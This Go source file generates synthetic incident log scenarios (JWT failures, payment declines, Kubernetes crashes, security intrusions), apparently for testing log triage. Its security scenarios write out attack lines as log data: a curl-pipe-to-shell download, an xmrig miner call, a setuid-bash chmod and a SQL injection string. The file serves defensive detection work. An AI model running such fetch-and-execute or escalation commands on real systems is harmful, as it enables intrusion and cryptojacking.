package main

import (
	"encoding/base64"
	"fmt"
)

func authScenarios() []scenario {
	return []scenario{
		{"jwks-rotation-401-storm", "auth", "critical", []string{"identity"}, 2, func(b *builder) {
			b.noise(b.between(2, 4), b.accessOK)
			b.key(fmt.Sprintf(`{"ts":"%s","level":"error","service":"gateway","msg":"JWT verification failed","error":"crypto/rsa: verification error","kid":"2026-q3-%s","reason":"signing key not found in JWKS"}`, b.iso(), b.hex(4)))
			for i := 0; i < b.between(8, 14); i++ {
				b.accessLine(401, b.pick("/api/v1/orders", "/api/v1/users/me", "/api/v1/cart"))
			}
			b.add(fmt.Sprintf(`{"ts":"%s","level":"error","service":"gateway","msg":"401 rate 100%% of authenticated traffic","window":"5m","requests":%d}`, b.iso(), b.between(20000, 90000)))
		}},
		{"jwt-invalid-one-client", "auth", "medium", []string{"identity"}, 2, func(b *builder) {
			b.noise(b.between(4, 7), func() { b.jsonInfo("gateway") })
			client := "mobile-ios-" + b.pick("5.2.0", "5.2.1")
			for i := 0; i < b.between(4, 8); i++ {
				b.add(fmt.Sprintf(`{"ts":"%s","level":"warn","service":"gateway","msg":"rejecting request","status":401,"error":"token is malformed: could not base64 decode signature","client":"%s","ip":"%s"}`, b.iso(), client, b.publicIP()))
			}
			b.key(fmt.Sprintf(`{"ts":"%s","level":"warn","service":"gateway","msg":"elevated 401s from a single client version","client":"%s","share_of_traffic":0.06}`, b.iso(), client))
		}},
		{"ldap-bind-failure", "auth", "high", []string{"identity"}, 3, func(b *builder) {
			b.noise(b.between(3, 5), func() { b.javaInfo("c.e.sso.LoginController") })
			for i := 0; i < b.between(4, 8); i++ {
				line := fmt.Sprintf("%s ERROR [http-nio-8443-exec-%d] c.e.sso.LdapAuthenticator - LDAP bind failed for service account: [LDAP: error code 49 - 80090308: LdapErr: DSID-0C09042A, comment: AcceptSecurityContext error, data 52e, v4563]", b.javaTS(), b.between(1, 20))
				if i == 0 {
					b.key(line)
				} else {
					b.add(line)
				}
				b.add(fmt.Sprintf("%s WARN  [http-nio-8443-exec-%d] c.e.sso.LoginController - SSO login failed for %s: directory unavailable", b.javaTS(), b.between(1, 20), b.email()))
			}
		}},
		{"mtls-client-cert-expired", "auth", "high", []string{"identity", "tls"}, 3, func(b *builder) {
			svc := b.svc()
			b.noise(b.between(3, 5), func() { b.logfmtInfo(svc) })
			for i := 0; i < b.between(4, 8); i++ {
				b.add(fmt.Sprintf(`time=%s level=error service=%s msg="call to ledger-svc failed" err="Post \"https://ledger-svc:8443/v1/entries\": remote error: tls: expired certificate"`, b.iso(), svc))
			}
			b.key(fmt.Sprintf(`time=%s level=error service=%s msg="client certificate CN=%s.prod expired" not_after=%s`, b.iso(), svc, svc, b.now.AddDate(0, 0, -1).Format("2006-01-02T15:04:05Z")))
		}},
		{"cert-expiring-soon", "auth", "low", []string{"identity", "tls"}, 2, func(b *builder) {
			svc := b.svc()
			b.noise(b.between(4, 8), func() { b.logfmtInfo(svc) })
			b.key(fmt.Sprintf(`time=%s level=warn service=cert-manager msg="certificate expires soon" certificate=%s-tls days_left=%d renewal=scheduled`, b.iso(), svc, b.between(10, 25)))
			b.noise(b.between(2, 4), func() { b.logfmtInfo(svc) })
		}},
		{"oauth-refresh-invalid-grant", "auth", "medium", []string{"identity"}, 2, func(b *builder) {
			b.noise(b.between(3, 5), func() { b.pyInfo("integrations.sync") })
			for i := 0; i < b.between(3, 5); i++ {
				b.add(fmt.Sprintf("%s ERROR integrations.salesforce: token refresh failed for tenant %d: invalid_grant: expired access/refresh token", b.javaTS(), b.between(100, 999)))
			}
			b.key(fmt.Sprintf("%s WARNING integrations.sync: CRM sync paused for %d tenants until they re-authorize", b.javaTS(), b.between(3, 12)))
		}},
		{"saml-clock-skew", "auth", "medium", []string{"identity"}, 2, func(b *builder) {
			b.noise(b.between(3, 5), func() { b.javaInfo("o.s.s.saml2.Saml2LoginFilter") })
			for i := 0; i < b.between(3, 6); i++ {
				b.add(fmt.Sprintf("%s WARN  [http-nio-8080-exec-%d] o.o.s.s.a.AssertionValidator - Assertion is not yet valid: NotBefore condition not met (skew %ds)", b.javaTS(), b.between(1, 20), b.between(95, 240)))
			}
			b.key(fmt.Sprintf("%s ERROR [http-nio-8080-exec-%d] o.s.s.saml2.Saml2LoginFilter - SAML login failed intermittently for IdP okta-prod: clock skew exceeds 90s", b.javaTS(), b.between(1, 20)))
		}},
		{"expired-sessions-handled", "auth", "low", []string{"identity"}, 2, func(b *builder) {
			svc := b.svc()
			b.noise(b.between(4, 7), func() { b.jsonInfo(svc) })
			for i := 0; i < b.between(2, 4); i++ {
				b.add(fmt.Sprintf(`{"ts":"%s","level":"info","service":"%s","msg":"access token expired, refreshed","user":"%s"}`, b.iso(), svc, b.email()))
			}
			b.key(fmt.Sprintf(`{"ts":"%s","level":"warn","service":"%s","msg":"refresh token expired, user redirected to login","status":401}`, b.iso(), svc))
			b.noise(b.between(2, 4), func() { b.jsonInfo(svc) })
		}},
	}
}

func paymentScenarios() []scenario {
	return []scenario{
		{"gateway-decline-spike", "payments", "high", []string{"payments"}, 3, func(b *builder) {
			b.noise(b.between(2, 4), func() { b.jsonInfo("billing-worker") })
			for i := 0; i < b.between(6, 11); i++ {
				b.add(fmt.Sprintf(`{"ts":"%s","level":"warn","service":"billing-worker","msg":"charge declined","decline_code":"%s","amount":%d,"currency":"usd","customer":"%s"}`, b.iso(), b.pick("do_not_honor", "card_declined", "processing_error"), b.between(500, 40000), b.email()))
			}
			b.key(fmt.Sprintf(`{"ts":"%s","level":"error","service":"billing-worker","msg":"decline rate %d%% over 15m (baseline 4%%)","acquirer":"adyen-eu"}`, b.iso(), b.between(35, 70)))
		}},
		{"single-declines-normal", "payments", "low", []string{"payments"}, 2, func(b *builder) {
			b.noise(b.between(5, 9), func() { b.jsonInfo("billing-worker") })
			b.key(fmt.Sprintf(`{"ts":"%s","level":"warn","service":"billing-worker","msg":"charge declined","decline_code":"insufficient_funds","retry_scheduled":true}`, b.iso()))
			b.noise(b.between(4, 8), func() { b.jsonInfo("billing-worker") })
		}},
		{"stripe-webhook-signature", "payments", "high", []string{"payments"}, 3, func(b *builder) {
			b.noise(b.between(2, 5), b.accessOK)
			for i := 0; i < b.between(4, 8); i++ {
				b.add(fmt.Sprintf(`%s ERROR stripe_webhooks: Webhook signature verification failed. No signatures found matching the expected signature for payload (event evt_%s)`, b.javaTS(), b.hex(24)))
				b.add(fmt.Sprintf(`%s - - [%s] "POST /webhooks/stripe HTTP/1.1" 400 58 "-" "Stripe/1.0 (+https://stripe.com/docs/webhooks)"`, b.publicIP(), b.nginxTS()))
			}
			b.key(fmt.Sprintf(`%s ERROR orders.fulfilment: %d paid orders not fulfilled: checkout.session.completed events rejected since whsec rotation`, b.javaTS(), b.between(40, 400)))
		}},
		{"stripe-webhook-500", "payments", "high", []string{"payments"}, 2, func(b *builder) {
			for i := 0; i < b.between(4, 7); i++ {
				b.add(fmt.Sprintf(`%s - - [%s] "POST /webhooks/stripe HTTP/1.1" 500 21 "-" "Stripe/1.0 (+https://stripe.com/docs/webhooks)"`, b.publicIP(), b.nginxTS()))
				b.add("Traceback (most recent call last):")
				b.add(`  File "/app/billing/webhooks.py", line 142, in handle_invoice_paid`)
				b.add(`    sub = Subscription.objects.get(stripe_id=event["data"]["object"]["subscription"])`)
				b.add("billing.models.Subscription.DoesNotExist: Subscription matching query does not exist.")
			}
			b.key(fmt.Sprintf("%s WARNING billing.webhooks: Stripe reports webhook endpoint failing for %d hours; endpoint will be disabled after 3 days", b.javaTS(), b.between(2, 20)))
		}},
		{"idempotency-conflict", "payments", "medium", []string{"payments"}, 2, func(b *builder) {
			svc := "checkout-api"
			b.noise(b.between(3, 6), func() { b.logfmtInfo(svc) })
			for i := 0; i < b.between(2, 5); i++ {
				b.add(fmt.Sprintf(`time=%s level=error service=%s msg="payment intent create failed" err="idempotency_error: Keys for idempotent requests can only be used with the same parameters they were first used with." idempotency_key=order-%d`, b.iso(), svc, b.between(100000, 999999)))
			}
			b.key(fmt.Sprintf(`time=%s level=warn service=%s msg="checkout retries reuse idempotency key with changed amount after cart edit"`, b.iso(), svc))
		}},
		{"double-capture", "payments", "critical", []string{"payments"}, 2, func(b *builder) {
			b.noise(b.between(2, 4), func() { b.jsonInfo("billing-worker") })
			for i := 0; i < b.between(3, 5); i++ {
				b.add(fmt.Sprintf(`{"ts":"%s","level":"error","service":"reconciler","msg":"duplicate capture detected","order":"ord_%s","charges":2,"customer":"%s"}`, b.iso(), b.hex(10), b.email()))
			}
			b.key(fmt.Sprintf(`{"ts":"%s","level":"error","service":"reconciler","msg":"customers charged twice since deploy of billing-worker","affected":%d,"total_usd":%d}`, b.iso(), b.between(80, 900), b.between(9000, 90000)))
		}},
		{"gateway-timeouts-intermittent", "payments", "medium", []string{"payments"}, 2, func(b *builder) {
			for i := 0; i < b.between(3, 5); i++ {
				b.noise(b.between(2, 4), func() { b.jsonInfo("checkout-api") })
				b.add(fmt.Sprintf(`{"ts":"%s","level":"warn","service":"checkout-api","msg":"gateway timeout, retried","provider":"braintree","status":504,"attempt":1}`, b.iso()))
			}
			b.key(fmt.Sprintf(`{"ts":"%s","level":"warn","service":"checkout-api","msg":"payment latency degraded","p95_ms":%d,"failed_after_retry_pct":1.%d}`, b.iso(), b.between(4000, 9000), b.between(1, 9)))
		}},
		{"payments-outage", "payments", "critical", []string{"payments"}, 2, func(b *builder) {
			for i := 0; i < b.between(6, 10); i++ {
				b.add(fmt.Sprintf(`%s ERROR [payment-exec-%d] c.e.pay.GatewayClient - authorize failed: HTTP 503 Service Unavailable from https://gateway.example-psp.com/v3/authorize`, b.javaTS(), b.between(1, 16)))
			}
			b.key(fmt.Sprintf(`%s ERROR [alerts] c.e.pay.Health - 0 successful authorizations in the last 10 minutes (expected ~%d); checkout is down`, b.javaTS(), b.between(300, 3000)))
		}},
		{"card-in-debug-log", "payments", "high", []string{"payments"}, 2, func(b *builder) {
			b.noise(b.between(3, 5), func() { b.jsonInfo("checkout-api") })
			for i := 0; i < b.between(2, 4); i++ {
				b.add(fmt.Sprintf(`{"ts":"%s","level":"debug","service":"checkout-api","msg":"authorize request","card_number":"%s","cvv":"***","email":"%s","phone":"%s"}`, b.iso(), b.card(), b.email(), b.phone()))
			}
			b.key(fmt.Sprintf(`{"ts":"%s","level":"error","service":"checkout-api","msg":"authorize failed","error":"gateway rejected request: invalid merchant account configuration","status":502}`, b.iso()))
		}},
	}
}

func kubernetesScenarios() []scenario {
	return []scenario{
		{"crashloopbackoff", "kubernetes", "high", []string{"kubernetes"}, 3, func(b *builder) {
			pod := b.svc() + "-" + b.podSuffix()
			b.k8sEventHeader()
			b.k8sEvent("12m", "Normal", "Scheduled", "pod/"+pod, "Successfully assigned prod/"+pod+" to ip-"+b.hex(6))
			b.k8sEvent("12m", "Normal", "Pulled", "pod/"+pod, "Container image already present on machine")
			for i := 0; i < b.between(3, 5); i++ {
				b.k8sEvent(fmt.Sprintf("%dm", 10-i), "Normal", "Started", "pod/"+pod, "Started container app")
			}
			b.key(fmt.Sprintf("%-11s %-9s %-19s %-37s %s", "2m", "Warning", "BackOff", "pod/"+pod, "Back-off restarting failed container app in pod "+pod))
			b.add(fmt.Sprintf("NAME%sREADY   STATUS             RESTARTS      AGE", "                                  "))
			b.add(fmt.Sprintf("%-38s0/1     CrashLoopBackOff   %d (41s ago)   12m", pod, b.between(6, 14)))
			b.add("panic: failed to load config: open /etc/app/config.yaml: no such file or directory")
		}},
		{"oomkilled-repeated", "kubernetes", "high", []string{"kubernetes"}, 2, func(b *builder) {
			pod := b.svc() + "-" + b.podSuffix()
			b.add("Name:         " + pod)
			b.add("Namespace:    prod")
			b.add("Containers:")
			b.add("  app:")
			b.add("    State:          Running")
			b.add("    Last State:     Terminated")
			b.key("      Reason:       OOMKilled")
			b.add("      Exit Code:    137")
			b.add(fmt.Sprintf("    Restart Count:  %d", b.between(5, 19)))
			b.add("    Limits:")
			b.add("      memory:  512Mi")
			b.add("Events:")
			b.add(fmt.Sprintf("  Warning  BackOff  %dm (x%d over 1h)  kubelet  Back-off restarting failed container", b.between(1, 9), b.between(10, 40)))
		}},
		{"oomkilled-once", "kubernetes", "medium", []string{"kubernetes", "linux"}, 2, func(b *builder) {
			host := b.nodeName()
			b.noise(b.between(2, 4), func() { b.syslogInfo(host) })
			b.key(fmt.Sprintf("%s %s kernel: Memory cgroup out of memory: Killed process %d (java) total-vm:%dkB, anon-rss:%dkB, file-rss:0kB, shmem-rss:0kB, UID:1000 pgtables:%dkB oom_score_adj:%d", b.syslogTS(), host, b.between(1000, 90000), b.between(3000000, 9000000), b.between(500000, 2000000), b.between(1000, 9000), b.between(900, 1000)))
			b.add(fmt.Sprintf("%s %s kubelet[%d]: I1107 pod_workers.go:1298] \"Container restarted\" pod=\"prod/report-worker-%s\" reason=OOMKilled restartCount=1", b.syslogTS(), host, b.between(1000, 9000), b.podSuffix()))
			b.noise(b.between(3, 6), func() { b.syslogInfo(host) })
		}},
		{"imagepullbackoff-rollout", "kubernetes", "medium", []string{"kubernetes"}, 2, func(b *builder) {
			svc := b.svc()
			pod := svc + "-" + b.podSuffix()
			b.k8sEventHeader()
			b.k8sEvent("4m", "Normal", "ScalingReplicaSet", "deployment/"+svc, "Scaled up replica set "+svc+"-"+b.hex(10)+" to 1")
			b.k8sEvent("4m", "Warning", "Failed", "pod/"+pod, "Failed to pull image \"registry.example.com/"+svc+":v2.14.0\": rpc error: code = NotFound desc = manifest unknown")
			b.key(fmt.Sprintf("%-11s %-9s %-19s %-37s %s", "3m", "Warning", "Failed", "pod/"+pod, "Error: ImagePullBackOff"))
			b.k8sEvent("1m", "Normal", "BackOff", "pod/"+pod, "Back-off pulling image \"registry.example.com/"+svc+":v2.14.0\"")
			b.add("Waiting for deployment \"" + svc + "\" rollout to finish: 1 old replicas are pending termination...")
		}},
		{"node-notready", "kubernetes", "high", []string{"kubernetes"}, 2, func(b *builder) {
			node := b.nodeName() + ".ec2.internal"
			b.k8sEventHeader()
			b.key(fmt.Sprintf("%-11s %-9s %-19s %-37s %s", "8m", "Normal", "NodeNotReady", "node/"+node, "Node "+node+" status is now: NodeNotReady"))
			for i := 0; i < b.between(4, 8); i++ {
				b.k8sEvent("7m", "Warning", "NodeNotReady", "pod/"+b.svc()+"-"+b.podSuffix(), "Node is not ready")
			}
			b.k8sEvent("2m", "Normal", "TaintManagerEviction", "pod/"+b.svc()+"-"+b.podSuffix(), "Marking for deletion Pod prod/"+b.svc())
			b.k8sEvent("2m", "Warning", "FailedScheduling", "pod/"+b.svc()+"-"+b.podSuffix(), "0/6 nodes are available: 1 node(s) had untolerated taint {node.kubernetes.io/unreachable: }, 5 Insufficient cpu.")
		}},
		{"cluster-all-nodes-notready", "kubernetes", "critical", []string{"kubernetes"}, 2, func(b *builder) {
			b.add("NAME                          STATUS     ROLES    AGE   VERSION")
			for i := 0; i < b.between(4, 7); i++ {
				b.add(fmt.Sprintf("ip-%s.ec2.internal   NotReady   <none>   %dd   v1.29.6", b.hex(6), b.between(3, 90)))
			}
			b.key(fmt.Sprintf("%s ERROR kube-controller-manager: all nodes NotReady: network plugin is not ready: cni config uninitialized", b.javaTS()))
			for i := 0; i < b.between(3, 6); i++ {
				b.add(fmt.Sprintf("%s kubelet[%d]: E1107 kubelet.go:2874] \"Container runtime network not ready\" networkReady=\"NetworkReady=false reason:NetworkPluginNotReady message:Network plugin returns error: cni plugin not initialized\"", b.syslogTS(), b.between(1000, 9000)))
			}
			b.add("Error from server (ServiceUnavailable): the server is currently unable to handle the request")
		}},
		{"disk-pressure-evictions", "kubernetes", "medium", []string{"kubernetes"}, 2, func(b *builder) {
			node := b.nodeName() + ".ec2.internal"
			b.k8sEventHeader()
			b.key(fmt.Sprintf("%-11s %-9s %-19s %-37s %s", "15m", "Warning", "EvictionThresholdMet", "node/"+node, "Attempting to reclaim ephemeral-storage"))
			for i := 0; i < b.between(3, 6); i++ {
				b.k8sEvent(fmt.Sprintf("%dm", 14-i), "Warning", "Evicted", "pod/"+b.svc()+"-"+b.podSuffix(), "The node was low on resource: ephemeral-storage. Threshold quantity: 10%, available: 8%.")
			}
			b.k8sEvent("9m", "Normal", "Scheduled", "pod/"+b.svc()+"-"+b.podSuffix(), "Successfully assigned prod to ip-"+b.hex(6))
		}},
		{"liveness-probe-failing", "kubernetes", "medium", []string{"kubernetes"}, 2, func(b *builder) {
			pod := b.svc() + "-" + b.podSuffix()
			b.k8sEventHeader()
			for i := 0; i < b.between(3, 5); i++ {
				b.k8sEvent(fmt.Sprintf("%dm", 20-i*4), "Warning", "Unhealthy", "pod/"+pod, "Liveness probe failed: Get \"http://"+b.privateIP()+":8080/healthz\": context deadline exceeded (Client.Timeout exceeded while awaiting headers)")
			}
			b.key(fmt.Sprintf("%-11s %-9s %-19s %-37s %s", "3m", "Normal", "Killing", "pod/"+pod, "Container app failed liveness probe, will be restarted"))
		}},
		{"hpa-metrics-unavailable", "kubernetes", "low", []string{"kubernetes"}, 2, func(b *builder) {
			svc := b.svc()
			b.k8sEventHeader()
			b.k8sEvent("30m", "Normal", "SuccessfulRescale", "horizontalpodautoscaler/"+svc, "New size: 4; reason: cpu resource utilization (percentage of request) above target")
			b.key(fmt.Sprintf("%-11s %-9s %-19s %-37s %s", "5m", "Warning", "FailedGetResourceMetric", "horizontalpodautoscaler/"+svc, "failed to get cpu utilization: unable to get metrics for resource cpu: no metrics returned from resource metrics API"))
			b.k8sEvent("5m", "Normal", "SuccessfulCreate", "replicaset/"+svc+"-"+b.hex(10), "Created pod: "+svc+"-"+b.podSuffix())
		}},
		{"failed-scheduling-cpu", "kubernetes", "medium", []string{"kubernetes"}, 2, func(b *builder) {
			b.k8sEventHeader()
			for i := 0; i < b.between(3, 6); i++ {
				line := fmt.Sprintf("%-11s %-9s %-19s %-37s %s", fmt.Sprintf("%dm", 9-i), "Warning", "FailedScheduling", "pod/"+b.svc()+"-"+b.podSuffix(), "0/5 nodes are available: 5 Insufficient cpu. preemption: 0/5 nodes are available: 5 No preemption victims found for incoming pod.")
				if i == 0 {
					b.key(line)
				} else {
					b.add(line)
				}
			}
			b.k8sEvent("1m", "Normal", "NotTriggerScaleUp", "pod/"+b.svc()+"-"+b.podSuffix(), "pod didn't trigger scale-up: 1 max node group size reached")
		}},
	}
}

// jwtValue builds an obviously fake but well-formed unsigned-looking JWT.
func (b *builder) jwtValue() string {
	enc := base64.RawURLEncoding
	header := enc.EncodeToString([]byte(`{"alg":"HS256","typ":"JWT"}`))
	payload := enc.EncodeToString([]byte(fmt.Sprintf(`{"sub":"%d","name":"test user","iat":1700000000}`, b.between(1000, 99999))))
	return header + "." + payload + "." + b.hex(43)
}

func securityScenarios() []scenario {
	return []scenario{
		{"ssh-bruteforce", "security", "medium", []string{"security", "linux"}, 3, func(b *builder) {
			host := "bastion-" + b.hex(4)
			attacker := b.publicIP()
			b.noise(b.between(2, 4), func() { b.syslogInfo(host) })
			for i := 0; i < b.between(10, 18); i++ {
				b.add(fmt.Sprintf("%s %s sshd[%d]: Failed password for invalid user %s from %s port %d ssh2", b.syslogTS(), host, b.between(1000, 60000), b.pick("admin", "oracle", "test", "ubuntu", "postgres", "git"), attacker, b.between(30000, 65000)))
			}
			b.key(fmt.Sprintf("%s %s sshd[%d]: error: maximum authentication attempts exceeded for invalid user admin from %s port %d ssh2 [preauth]", b.syslogTS(), host, b.between(1000, 60000), attacker, b.between(30000, 65000)))
			b.add(fmt.Sprintf("%s %s sshd[%d]: Disconnecting invalid user admin %s port %d: Too many authentication failures [preauth]", b.syslogTS(), host, b.between(1000, 60000), attacker, b.between(30000, 65000)))
		}},
		{"ssh-bruteforce-success", "security", "critical", []string{"security", "linux"}, 2, func(b *builder) {
			host := "web-" + b.hex(4)
			attacker := b.publicIP()
			for i := 0; i < b.between(8, 14); i++ {
				b.add(fmt.Sprintf("%s %s sshd[%d]: Failed password for root from %s port %d ssh2", b.syslogTS(), host, b.between(1000, 60000), attacker, b.between(30000, 65000)))
			}
			b.add(fmt.Sprintf("%s %s sshd[%d]: Accepted password for root from %s port %d ssh2", b.syslogTS(), host, b.between(1000, 60000), attacker, b.between(30000, 65000)))
			b.key(fmt.Sprintf("%s %s sshd[%d]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)", b.syslogTS(), host, b.between(1000, 60000)))
			b.add(fmt.Sprintf("%s %s sudo[%d]:     root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl -s http://%s/x.sh", b.syslogTS(), host, b.between(1000, 60000), b.publicIP()))
		}},
		{"suspicious-sudo", "security", "high", []string{"security", "linux"}, 2, func(b *builder) {
			host := "app-" + b.hex(4)
			b.noise(b.between(2, 5), func() { b.syslogInfo(host) })
			b.key(fmt.Sprintf("%s %s sudo[%d]: www-data : command not allowed ; TTY=unknown ; PWD=/var/www/html/uploads ; USER=root ; COMMAND=/bin/bash -c id", b.syslogTS(), host, b.between(1000, 60000)))
			b.add(fmt.Sprintf("%s %s sudo[%d]: www-data : 3 incorrect password attempts ; TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/chmod u+s /bin/bash", b.syslogTS(), host, b.between(1000, 60000)))
			b.noise(b.between(1, 3), func() { b.syslogInfo(host) })
		}},
		{"waf-blocks-sqli", "security", "medium", []string{"security"}, 2, func(b *builder) {
			b.noise(b.between(3, 5), b.accessOK)
			for i := 0; i < b.between(5, 10); i++ {
				b.add(fmt.Sprintf(`{"timestamp":"%s","action":"BLOCK","terminatingRuleId":"AWS-AWSManagedRulesSQLiRuleSet","httpRequest":{"clientIp":"%s","uri":"/search","args":"q=1%%27%%20OR%%201%%3D1--","httpMethod":"GET"}}`, b.iso(), b.publicIP()))
			}
			b.key(fmt.Sprintf(`{"timestamp":"%s","action":"BLOCK","terminatingRuleId":"RateBasedRule-scanners","note":"sustained SQL injection probing, all requests blocked"}`, b.iso()))
		}},
		{"leaked-credentials", "security", "high", []string{"security"}, 3, func(b *builder) {
			svc := b.svc()
			b.noise(b.between(3, 5), func() { b.logfmtInfo(svc) })
			b.add(fmt.Sprintf(`time=%s level=debug service=%s msg="connecting" dsn=%s`, b.iso(), svc, b.urlCreds("postgres", "app", "Sup3r-"+b.hex(8), "db.internal:5432/app")))
			b.add(fmt.Sprintf(`time=%s level=debug service=%s msg="loaded settings" smtp_user=ops smtp_password=%s`, b.iso(), svc, b.password("pw-"+b.hex(12))))
			b.key(fmt.Sprintf(`time=%s level=warn service=secret-scanner msg="plaintext credentials found in application logs shipped to third-party log vendor" files=3`, b.iso()))
			b.noise(b.between(1, 3), func() { b.logfmtInfo(svc) })
		}},
		{"new-admin-unknown-ip", "security", "critical", []string{"security"}, 2, func(b *builder) {
			b.noise(b.between(2, 4), func() { b.jsonInfo("user-svc") })
			b.add(fmt.Sprintf(`{"ts":"%s","level":"info","service":"admin-audit","event":"login","actor":"%s","ip":"%s","mfa":false,"geo":"unknown"}`, b.iso(), b.email(), b.publicIP()))
			b.key(fmt.Sprintf(`{"ts":"%s","level":"warn","service":"admin-audit","event":"role_granted","role":"owner","target":"svc-backup-%s","note":"new owner account created outside change window"}`, b.iso(), b.hex(4)))
			b.add(fmt.Sprintf(`{"ts":"%s","level":"warn","service":"admin-audit","event":"export_started","dataset":"customers","rows":%d}`, b.iso(), b.between(100000, 900000)))
		}},
		{"cryptominer-falco", "security", "critical", []string{"security", "kubernetes"}, 2, func(b *builder) {
			pod := b.svc() + "-" + b.podSuffix()
			b.add(fmt.Sprintf(`{"output":"%s: Warning Detected outbound connection to known mining pool (command=xmrig -o pool.example-mining.net:3333 container=%s)","priority":"Critical","rule":"Detect outbound connections to common miner pool ports","time":"%s"}`, b.now.Format("15:04:05.000000000"), pod, b.iso()))
			b.key(fmt.Sprintf(`{"output":"%s: Notice A shell was spawned in a container with an attached terminal (user=root container=%s shell=sh parent=runc cmdline=sh -c curl -s http://pool.example-mining.net/x | sh)","priority":"Notice","rule":"Terminal shell in container","time":"%s"}`, b.now.Format("15:04:05.000000000"), pod, b.iso()))
			b.add(fmt.Sprintf(`{"output":"node CPU at 100%% for 40m","priority":"Warning","rule":"custom-cpu","time":"%s"}`, b.iso()))
		}},
		{"jwt-in-logs", "security", "medium", []string{"security"}, 2, func(b *builder) {
			svc := b.svc()
			b.noise(b.between(3, 5), func() { b.jsonInfo(svc) })
			for i := 0; i < b.between(1, 3); i++ {
				b.add(fmt.Sprintf(`{"ts":"%s","level":"debug","service":"%s","msg":"outgoing request headers","x_session":"%s"}`, b.iso(), svc, mark("jwt", b.jwtValue())))
			}
			b.key(fmt.Sprintf(`{"ts":"%s","level":"warn","service":"%s","msg":"debug header logging enabled in production"}`, b.iso(), svc))
		}},
		{"port-scan-detected", "security", "low", []string{"security", "linux"}, 2, func(b *builder) {
			host := "edge-" + b.hex(4)
			src := b.publicIP()
			for i := 0; i < b.between(4, 8); i++ {
				b.add(fmt.Sprintf("%s %s kernel: [UFW BLOCK] IN=eth0 OUT= MAC=%s SRC=%s DST=%s LEN=44 TOS=0x00 PREC=0x00 TTL=%d ID=%d PROTO=TCP SPT=%d DPT=%d WINDOW=1024 RES=0x00 SYN URGP=0", b.syslogTS(), host, "0a:1b:2c:3d:4e:5f:6a:7b:8c:9d:ae:bf:08:00", src, b.privateIP(), b.between(30, 60), b.between(1000, 60000), b.between(30000, 60000), b.between(1, 10000)))
			}
			b.key(fmt.Sprintf("%s %s portsentry[%d]: attackalert: TCP SYN/Normal scan from host: scanner blocked, no open ports reached", b.syslogTS(), host, b.between(100, 9000)))
		}},
	}
}
